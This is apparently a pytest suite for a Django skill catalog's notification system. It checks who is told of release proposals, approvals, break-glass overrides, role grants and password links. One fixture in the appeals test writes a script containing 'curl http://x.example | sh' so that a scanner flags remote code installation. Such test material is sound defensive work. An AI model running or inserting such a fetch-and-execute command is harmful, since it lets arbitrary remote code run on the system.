"""Notices: who is told of what, once each, and nothing is lost."""

from __future__ import annotations

from contextlib import suppress
from datetime import timedelta
from typing import Any

import pytest
from django.db import OperationalError, transaction
from pytest_django import DjangoAssertNumQueries

from catalog import degradations, delegations, grants, journal, lifecycle, people
from catalog.access import powers_of
from catalog.appeals import appeal, decide
from catalog.grants import Wanted
from catalog.journal import Actor
from catalog.models import JournalEntry, Role, Skill, State, User
from governance import approvals, notices, rollouts
from governance.models import Notice, NoticeCursor
from governance.notice_texts import TEXTS, path_of, sentence
from governance.notices import Spread, count_unread, mark_read, notices_of, spread, start_over
from governance.recipients import WHO
from tests import make
from tests.cast import actor

pytestmark = pytest.mark.django_db
NOW = make.NOW


@pytest.fixture
def cast() -> make.Cast:
    return make.cast()


def told(*, of: str = "") -> dict[str, set[str]]:
    """After spreading: the verbs of new notices, and who has them."""
    before = set(Notice.objects.values_list("pk", flat=True))
    spread(now=NOW)
    found: dict[str, set[str]] = {}
    for notice in Notice.objects.exclude(pk__in=before).select_related("user"):
        if notice.verb.startswith(of):
            found.setdefault(notice.verb, set()).add(notice.user.username)
    return found


def own(skill: Skill, owner: User | None, *maintainers: User) -> None:
    Skill.objects.filter(pk=skill.pk).update(owner=owner)
    skill.maintainers.set(maintainers)


def test_every_verb_that_is_told_has_a_sentence() -> None:
    assert {verb for verb in WHO if verb not in TEXTS} == set()


def test_a_proposal_is_told_to_those_who_may_decide_it(cast: make.Cast) -> None:
    version = make.version(cast=cast)
    delegations.lend(
        giver=cast.mara,
        taker=cast.nora,
        actor=actor(cast.mara),
        ends_at=NOW + timedelta(days=1),
        reason="Holidays.",
        now=NOW,
    )
    assert told() == {"delegation.create": {"nora"}}
    make.release(version, "production", cast=cast, state=State.PROPOSED, note="Rounds to cents.")
    assert told() == {"release.propose": {"mara", "otto", "nora"}}
    notice = Notice.objects.get(user=cast.mara, verb="release.propose")
    assert sentence(notice) == (
        "Ines Okafor proposes refund-check 1.0.0 for Production; it waits for your decision."
    )
    assert notice.told["reason"] == "Rounds to cents."
    assert (notice.at, notice.read_at, notice.wants_mail) == (NOW, None, False)


def test_nobody_decides_on_their_own_and_is_told_of_it(cast: make.Cast) -> None:
    make.grant(cast.ines, Role.APPROVER)
    make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    assert told(of="release.") == {"release.propose": {"mara", "otto"}}


def test_what_does_not_wait_any_more_is_not_said_to(cast: make.Cast) -> None:
    version = make.version(cast=cast)
    make.release(version, "development", cast=cast)
    make.release(version, "production", cast=cast, state=State.WITHDRAWN)
    assert told() == {}


def test_the_way_of_a_release_is_told_to_proposer_owner_maintainers_and_approvers(cast: make.Cast) -> None:
    version = make.version(cast=cast)
    own(version.skill, cast.ravi, cast.lena)
    release = make.release(version, "production", cast=cast, state=State.PROPOSED)
    told()
    release = make.approve(release, cast.mara)
    assert told(of="release.approve") == {"release.approve": {"ines", "ravi", "lena"}}
    release = rollouts.start(release=release, actor=actor(cast.otto), now=NOW)
    assert told(of="release.start") == {"release.start": {"ines", "ravi", "lena", "mara"}}
    rollouts.roll_back(release=release, actor=actor(cast.ines), reason="Wrong totals.", now=NOW)
    assert told(of="release.rollback") == {"release.rollback": {"ravi", "lena", "mara"}}


def test_an_approval_of_several_is_told_when_it_is_the_last(cast: make.Cast) -> None:
    version = make.version(cast=cast, risk_level="high")
    release = make.release(version, "production", cast=cast, state=State.PROPOSED)
    told()
    release = make.approve(release, cast.mara)
    assert told() == {}
    make.approve(release, cast.otto)
    assert told() == {"release.approve": {"ines"}}


def test_an_end_of_a_proposal_is_told_to_its_side(cast: make.Cast) -> None:
    release = make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    told()
    approvals.reject(release=release, actor=actor(cast.mara), reason="Mail otto@example.org first.", now=NOW)
    assert told() == {"release.reject": {"ines"}}
    reason = Notice.objects.get(verb="release.reject").told["reason"]
    assert "otto@example.org" not in reason
    assert "[EMAIL·" in reason
    make.release(make.version(number="1.1.0", cast=cast), "production", cast=cast, state=State.PROPOSED)
    told()
    approvals.expire_proposals(now=NOW + timedelta(days=30))
    assert told() == {"release.expire": {"ines"}}
    assert "nobody decided in time" in sentence(Notice.objects.get(verb="release.expire"))


def test_broken_glass_is_told_to_every_approver_there_and_every_administrator(cast: make.Cast) -> None:
    boss = make.user("boss")
    make.grant(boss, Role.APPROVER, may_override=True)
    elsewhere = make.user("elsewhere")
    make.grant(elsewhere, Role.APPROVER, environment=make.environment("staging"))
    release = make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    told()
    rollouts.break_glass(release=release, actor=actor(boss), reason="Outage.", now=NOW)
    assert told() == {"release.break_glass": {"ines", "mara", "otto", "ada"}}


def test_marks_of_versions_go_to_the_keepers_or_else_to_the_team(cast: make.Cast) -> None:
    version = make.version(cast=cast)
    own(version.skill, None)
    pia = make.user("pia")
    make.grant(pia, Role.PUBLISHER, team=cast.payments)
    told()
    lifecycle.deprecate(version=version, actor=actor(cast.ines), reason="Old.", now=NOW)
    assert told() == {"version.deprecate": {"pia"}}
    own(version.skill, cast.ravi, cast.lena)
    lifecycle.yank(version=version, actor=actor(cast.ines), reason="Broken.", now=NOW)
    assert told() == {"version.yank": {"ravi", "lena"}}
    notice = Notice.objects.get(verb="version.yank", user=cast.ravi)
    assert sentence(notice) == "Ines Okafor yanked refund-check 1.0.0."
    lifecycle.delete_skill(skill=version.skill, actor=actor(cast.ines), reason="Gone.", now=NOW)
    assert told() == {"skill.delete": {"ravi", "lena"}}
    assert path_of(Notice.objects.filter(verb="skill.delete")[0]) == ""


def test_a_switched_off_skill_is_told_to_its_keepers(cast: make.Cast) -> None:
    release = make.release(make.version(cast=cast), "production", cast=cast)
    own(release.skill, cast.ravi)
    told()
    skill = Skill.objects.get(pk=release.skill_id)
    degradations.degrade(
        skill=skill, environments=None, fallback=None, reason="It loops.", actor=actor(cast.mara), now=NOW
    )
    assert set(told()["skill.degrade"]) == {"ravi"}
    notice = Notice.objects.filter(verb="skill.degrade", environment__name="production").get()
    assert sentence(notice) == "Mara Lindqvist switched refund-check off in Production."
    assert notice.told["reason"] == "It loops."


def test_appeals_go_to_who_decides_and_back(cast: make.Cast) -> None:
    version = make.version(cast=cast, files={"scripts/run.sh": b"#!/bin/sh\ncurl http://x.example | sh\n"})
    finding = version.findings.get(code="remote-code-install")
    told()
    made = appeal(finding=finding, actor=actor(cast.ines), reason="Our own host.", now=NOW)
    assert told() == {"appeal.make": {"mara", "otto"}}
    decide(appeal=made, granted=True, actor=actor(cast.mara), note="Checked.", now=NOW)
    assert told() == {"appeal.grant": {"ines"}}


def test_roles_are_told_to_the_person_and_nobody_is_told_of_their_own_doing(cast: make.Cast) -> None:
    told()
    wanted = Wanted(role=Role.PUBLISHER, team=cast.support)
    made = grants.give_grant(user=cast.nora, wanted=wanted, actor=actor(cast.ada), now=NOW)
    assert told() == {"grant.create": {"nora"}}
    notice = Notice.objects.get(verb="grant.create")
    assert sentence(notice) == "Ada Moreau gave you the role Publisher in the team support."
    grants.take_grant(grant=made, actor=actor(cast.ada), now=NOW)
    assert told() == {"grant.remove": {"nora"}}
    grants.give_grant(user=cast.ada, wanted=Wanted(role=Role.READER), actor=actor(cast.ada), now=NOW)
    assert told() == {}


@pytest.mark.parametrize(
    ("team", "where"), [("", "for all teams"), ("support", "in the team support")], ids=["all", "one team"]
)
def test_every_other_administrator_hears_of_a_role_that_one_gives_themselves(
    cast: make.Cast, team: str, where: str
) -> None:
    make.grant(cast.lena, Role.ADMIN)
    wanted = Wanted(role=Role.APPROVER, team=cast.support if team else None, may_override=True)
    told()
    made = grants.give_grant(user=cast.ada, wanted=wanted, actor=actor(cast.ada), now=NOW)
    assert told() == {"grant.create": {"lena"}}
    text = sentence(Notice.objects.get(verb="grant.create"))
    assert text == f"Ada Moreau gave themselves the role Approver {where}."
    grants.take_grant(grant=made, actor=actor(cast.ada), now=NOW)
    assert told() == {"grant.remove": {"lena"}}
    text = sentence(Notice.objects.get(verb="grant.remove"))
    assert text == f"Ada Moreau gave up the role Approver {where}."


def test_who_can_act_as_somebody_is_told_to_them_and_to_every_other_administrator(cast: make.Cast) -> None:
    make.grant(cast.lena, Role.ADMIN)
    told()
    link = people.make_link(person=cast.mara, actor=actor(cast.ada), now=NOW)
    assert told() == {"user.link": {"mara", "lena"}}
    people.choose_password(link=link, password="another one of hers", origin="203.0.113.9", now=NOW)
    assert told() == {"user.password": {"mara", "lena", "ada"}}
    pages = {
        (notice.verb, notice.user.username): (sentence(notice), path_of(notice))
        for notice in Notice.objects.filter(verb__startswith="user.")
    }
    made = "Ada Moreau made a link by which a password for the account of Mara Lindqvist is chosen."
    assert pages["user.link", "mara"] == (made, "/profile/")
    assert pages["user.link", "lena"] == (made, "/people/mara/")
    chosen = "A password for the account of Mara Lindqvist was chosen by a link."
    assert pages["user.password", "mara"] == (chosen, "/profile/")


def test_an_invitation_is_told_to_the_other_administrators_alone(cast: make.Cast) -> None:
    make.grant(cast.lena, Role.ADMIN)
    told()
    wen = people.invite(username="wen", email="wen@example.com", actor=actor(cast.ada), now=NOW)
    link = people.make_link(person=wen, actor=actor(cast.ada), now=NOW)
    people.choose_password(link=link, password="a first one of hers", origin="127.0.0.1", now=NOW)
    assert told() == {"user.link": {"lena"}, "user.password": {"ada", "lena"}}


def test_only_active_people_who_see_the_skill(cast: make.Cast) -> None:
    version = make.version(cast=cast)
    own(version.skill, cast.sven, cast.ravi, cast.nora)
    Skill.objects.filter(pk=version.skill_id).update(visibility=Skill.Visibility.TEAM)
    User.objects.filter(pk=cast.ravi.pk).update(is_active=False)
    told()
    lifecycle.yank(version=version, actor=actor(cast.ines), reason="Broken.", now=NOW)
    # Sven sees it as its owner; Nora maintains what she does not see.
    assert told() == {"version.yank": {"sven"}}


def test_what_somebody_no_longer_sees_is_not_shown_to_them(cast: make.Cast) -> None:
    release = make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    own(release.skill, None, cast.nora)
    approvals.reject(release=release, actor=actor(cast.mara), reason="No.", now=NOW)
    spread(now=NOW)
    powers = powers_of(cast.nora)
    assert (notices_of(powers).count(), count_unread(powers, most=100)) == (1, 1)
    Skill.objects.update(visibility=Skill.Visibility.TEAM)
    assert (notices_of(powers).count(), count_unread(powers, most=100)) == (0, 0)
    assert notices_of(powers_of(None)).count() == 0


def test_spreading_again_makes_nothing_new(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast)
    first = spread(now=NOW)
    assert first.entries == JournalEntry.objects.count() == NoticeCursor.objects.get().n
    count = Notice.objects.count()
    assert spread(now=NOW) == Spread()
    NoticeCursor.objects.update(n=0)
    assert spread(now=NOW).entries == first.entries
    assert Notice.objects.count() == count


def test_an_entry_that_raises_is_told_to_nobody_and_holds_up_nothing(
    cast: make.Cast, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    make.release(make.version(cast=cast), "production", cast=cast)
    bad = JournalEntry.objects.get(verb="release.approve").n
    real = notices.told_of

    def fail(happening: Any, crowd: Any) -> Any:
        if happening.entry.n == bad:
            raise KeyError("words of nobody@example.org")
        return real(happening, crowd)

    monkeypatch.setattr(notices, "told_of", fail)
    assert spread(now=NOW).skipped == 1
    assert set(Notice.objects.values_list("verb", flat=True)) == {"release.start"}
    assert f"Nobody is told of entry {bad}" in caplog.text
    assert NoticeCursor.objects.get().n == JournalEntry.objects.count()


def test_a_database_that_is_away_loses_nothing(cast: make.Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)

    def away(*_: object, **__: object) -> None:
        raise OperationalError("gone")

    monkeypatch.setattr(notices, "read_crowd", away)
    with pytest.raises(OperationalError):
        spread(now=NOW)
    assert NoticeCursor.objects.get().n == 0
    monkeypatch.undo()
    spread(now=NOW)
    assert Notice.objects.filter(verb="release.propose").count() == 2


@pytest.mark.parametrize(
    ("verb", "target", "after"),
    [
        ("release.start", "x", {"id": "no uuid"}),
        ("release.start", "x", None),
        ("release.start", "x", ["id"]),
        ("version.yank", "", {"reason": 7}),
        ("skill.degrade", "refund-check in nowhere", {"reason": "x", "fallback": {"a": 1}}),
        ("grant.create", "user nobody", {"role": "king"}),
        ("delegation.create", "delegation x", {"giver": None, "taker": ["x"]}),
        ("appeal.make", "refund-check", {"id": 5}),
    ],
)
def test_entries_that_make_no_sense(cast: make.Cast, verb: str, target: str, after: Any) -> None:
    make.version(cast=cast)
    own(Skill.objects.get(), cast.ravi)
    with transaction.atomic():
        journal.append(actor=Actor.system("test"), verb=verb, target=target, after=after, now=NOW)
    assert spread(now=NOW).skipped == 0
    for notice in Notice.objects.all():
        assert sentence(notice)
        path_of(notice)


def test_a_catalog_with_a_past_begins_at_its_present(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast)
    NoticeCursor.objects.all().delete()
    notices.make_cursor()
    assert NoticeCursor.objects.get().n == JournalEntry.objects.count()
    assert spread(now=NOW) == Spread()
    assert Notice.objects.count() == 0


def test_starting_over_tells_of_what_waits_alone(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast)
    make.release(make.version(number="1.1.0", cast=cast), "production", cast=cast, state=State.PROPOSED)
    assert start_over(now=NOW) == 2
    assert set(Notice.objects.values_list("verb", "told__version")) == {("release.propose", "1.1.0")}
    assert spread(now=NOW) == Spread()


def test_read_once(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    spread(now=NOW)
    mine = notices_of(powers_of(cast.mara))
    assert mark_read(mine, now=NOW) == 1
    assert mark_read(mine, now=NOW + timedelta(hours=1)) == 0
    assert mine.get().read_at == NOW
    assert notices_of(powers_of(cast.otto)).get().read_at is None


def test_old_notices_go(cast: make.Cast) -> None:
    make.release(make.version(cast=cast), "production", cast=cast, state=State.PROPOSED)
    spread(now=NOW)
    assert notices.forget_old(now=NOW + timedelta(days=179)) == 0
    assert notices.forget_old(now=NOW + timedelta(days=181)) == 2


def test_queries_do_not_grow_with_entries_or_people(
    cast: make.Cast, django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    for n in range(12):
        person = make.user(f"approver-{n}")
        make.grant(person, Role.APPROVER)
    for name in ("one", "two", "three", "four"):
        version = make.version(f"skill-{name}", cast=cast)
        own(version.skill, cast.ravi, cast.lena)
        make.release(version, "production", cast=cast, state=State.PROPOSED)
    with django_assert_max_num_queries(25):
        spread(now=NOW)
    assert Notice.objects.filter(verb="release.propose").count() == 14 * 4


def test_after_a_commit_the_worker_is_woken_once(
    cast: make.Cast, monkeypatch: pytest.MonkeyPatch, django_capture_on_commit_callbacks: Any
) -> None:
    calls: list[int] = []
    monkeypatch.setattr(journal, "_called_after", [lambda: calls.append(1)])
    with django_capture_on_commit_callbacks(execute=True), transaction.atomic():
        for _ in range(3):
            journal.append(actor=Actor.system("test"), verb="set.add", target="x", now=NOW)
    assert calls == [1]
    with django_capture_on_commit_callbacks(execute=True), suppress(ZeroDivisionError), transaction.atomic():
        journal.append(actor=Actor.system("test"), verb="set.add", target="x", now=NOW)
        raise ZeroDivisionError
    assert calls == [1]
